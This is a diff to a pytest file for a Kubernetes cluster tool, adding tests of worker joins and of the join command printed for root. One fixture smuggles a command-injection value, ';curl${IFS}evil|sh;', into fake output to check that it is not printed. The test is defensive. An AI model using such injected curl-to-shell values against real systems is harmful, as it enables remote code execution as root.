@@ -1,14 +1,16 @@
 """The workers' token lives as long as their join."""
 
 from contextlib import nullcontext
+from dataclasses import replace
 
 import pytest
 import samples
 from contexts import FakeExecutor, context_of
 
+from haplane.domain.observed import Observation
 from haplane.domain.plan import Kind, Step
 from haplane.errors import HaplaneError
-from haplane.phases.converge.join_workers import join_workers
+from haplane.phases.converge.join_workers import join_workers, print_join_command
 
 INVENTORY = samples.inventory(workers=2)
 PRINTED = (
@@ -57,3 +59,28 @@ def test_one_that_could_not_be_deleted_is_told():
     assert warning.endswith("kubeadm token delete abcdef")
     assert "timed out" in warning
     assert "0123456789abcdef" not in warning
+
+
+def test_no_master_and_no_token_hides_why_a_join_failed():
+    """The error of a master that was left out took the place of the join's own."""
+    context = joining(Masters(fails=True))
+    honest, found = context.executor.deploy, context.observation
+
+    def deploy(*words, **arguments):
+        gone = Observation(reports={}, unreachable=dict.fromkeys(found.reports, "off"))
+        context.see(replace(context.view, observation=gone))
+        honest(*words, **arguments)
+
+    context.executor.deploy = deploy
+    with pytest.raises(HaplaneError, match="kubeadm join failed on w1"):
+        join_workers(context)
+    [warning] = context.result.warnings
+    assert "no master is reachable" in warning
+
+
+def test_what_is_printed_to_run_as_root_has_the_inventorys_endpoint():
+    context = joining(Masters())
+    honest = PRINTED.replace(":6443", ":6443;curl${IFS}evil|sh;:")
+    context.executor.run = lambda *_, **__: honest.encode()
+    print_join_command(context)
+    assert context.result.join_command == PRINTED.strip()
